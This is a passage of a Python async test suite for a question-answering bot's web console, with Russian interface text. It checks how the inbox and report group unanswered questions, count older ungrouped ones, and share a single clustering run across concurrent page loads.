    assert 'aria-label="Убрать из списка вопрос «сломался карбюратор у трактора»"' in shown


async def test_the_inbox_says_how_many_older_questions_are_in_no_group(
    small_inbox: Web,
) -> None:
    """The list groups the 3 newest distinct questions and says how many asked before them
    (questions and distinct texts) it leaves out; with nothing left out it says nothing."""
    web = small_inbox
    await _ask(web, ("сломался карбюратор у трактора", "Сломался карбюратор у  трактора"), "old")
    await _ask(web, ("трактор не заводится что делать",), "older")
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    assert "В группы не вошли" not in unescape((await web.client.get("/console/inbox")).text)
    await _ask(web, PASSPORT_QUESTIONS, "new")

    page = unescape((await web.client.get("/console/inbox")).text)

    assert "трактор" not in page
    assert (
        "В группы не вошли более ранние вопросы: 3 (разных формулировок: 2). Список "
        "группирует 3 самых новых разных вопросов, а эти заданы раньше." in page
    )


async def test_the_report_says_how_many_older_unanswered_questions_are_in_no_group(
    small_inbox: Web,
) -> None:
    """The report's groups are made of the 3 newest distinct unanswered questions, as the
    inbox's: under them it says how many asked before (questions and distinct texts) are in
    none; with nothing left out it says nothing."""
    web = small_inbox
    await _ask(web, ("сломался карбюратор у трактора", "Сломался карбюратор у  трактора"), "old")
    await _ask(web, ("трактор не заводится что делать",), "older")
    await web.operator("ana", Role.ANALYST)
    await log_in(web.client, "ana")
    assert "В группы не вошли" not in unescape((await web.client.get("/console/report")).text)
    await _ask(web, PASSPORT_QUESTIONS, "new")

    page = unescape((await web.client.get("/console/report")).text)

    groups = page.split('<h2 id="unanswered">')[1].split("<h2")[0]
    assert (
        "В группы не вошли более ранние вопросы: 3 (разных формулировок: 2). Группы "
        "составлены из 3 самых новых разных вопросов периода, а эти заданы раньше." in groups
    )
    assert "трактор" not in groups


async def test_group_pages_opened_at_once_share_one_grouping(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Six pages of groups opened at the same moment, after a new question changed the
    inbox, each show their group, and the inbox is grouped once for all of them."""
    groupings: list[int] = []

    def slow(texts: Sequence[TextFeatures], **options: Any) -> list[int]:
        groupings.append(len(texts))
        time.sleep(0.5)  # a large inbox takes seconds
        return cluster_labels(texts, **options)

    monkeypatch.setattr(unanswered, "cluster_labels", slow)
    await _ask(web, (*PASSPORT_QUESTIONS, *TRACTOR_QUESTIONS), "first")
    async with web.services.db.transaction() as uow:
        records = await uow.questions.between(None, None)
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")
    await web.client.get("/console/inbox")
    await _ask(web, ("паспорт ребенку до 14 лет",), "new")
    groupings.clear()

    pages = await asyncio.gather(
        *(web.client.get(f"/console/inbox/group/{r.id}") for r in [*records, records[0]])
    )

    assert [page.status_code for page in pages] == [200] * 6
    for record, page in zip([*records, records[0]], pages, strict=True):
        assert f"вопрос «{record.text}»" in unescape(page.text)
    assert groupings == [6]


async def test_the_inbox_and_a_group_page_read_only_questions_left_unanswered(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Questions the bot answered (most of a month's) are no part of the inbox: its list and a
    group's page show the group and read none of them from the database."""
    answered = tuple(entry.question for entry in list(web.services.answerer.kb)[:8])
    await _ask(web, answered, "answered")
    await _ask(web, TRACTOR_QUESTIONS, "tractor")
    read: list[int] = []
    between = QuestionRepository.between

    async def counted(self: QuestionRepository, *args: Any, **options: Any) -> Any:
        found = await between(self, *args, **options)
        read.append(len(found))
        return found

    monkeypatch.setattr(QuestionRepository, "between", counted)
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")

    inbox = unescape((await web.client.get("/console/inbox")).text)
    record_id = _cluster_of(inbox, TRACTOR_QUESTIONS[0]).split(",")[0]
    page = unescape((await web.client.get(f"/console/inbox/group/{record_id}")).text)

    assert all(f"вопрос «{question}»" in page for question in TRACTOR_QUESTIONS)
    assert not any(question in page for question in answered)
    assert read == [len(TRACTOR_QUESTIONS)] * 2


async def test_group_pages_opened_at_once_after_a_start_share_one_grouping(
    web: Web, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first pages of groups after the server starts (the base's features not yet
    analysed, as after a reload of the base), opened at the same moment, group the inbox
    once between them, not once per analysis of the base each made."""
    groupings: list[int] = []

    def slow(texts: Sequence[TextFeatures], **options: Any) -> list[int]:
        groupings.append(len(texts))
        time.sleep(0.5)  # a large inbox takes seconds
        return cluster_labels(texts, **options)

    entry = unanswered.Background._entry

    def slow_entry(self: unanswered.Background, *args: Any) -> TextFeatures:
        time.sleep(0.002)  # the project's base takes most of a second
        return entry(self, *args)

    monkeypatch.setattr(unanswered, "cluster_labels", slow)
    monkeypatch.setattr(unanswered.Background, "_entry", slow_entry)
    await _ask(web, (*PASSPORT_QUESTIONS, *TRACTOR_QUESTIONS), "first")
    async with web.services.db.transaction() as uow:
        records = await uow.questions.between(None, None)
    await web.operator("cura", Role.CURATOR)
    await log_in(web.client, "cura")

    pages = await asyncio.gather(
        *(web.client.get(f"/console/inbox/group/{r.id}") for r in [*records, records[0]])
    )

    assert [page.status_code for page in pages] == [200] * 6
    for record, page in zip([*records, records[0]], pages, strict=True):
        assert f"вопрос «{record.text}»" in unescape(page.text)
    assert groupings == [5]
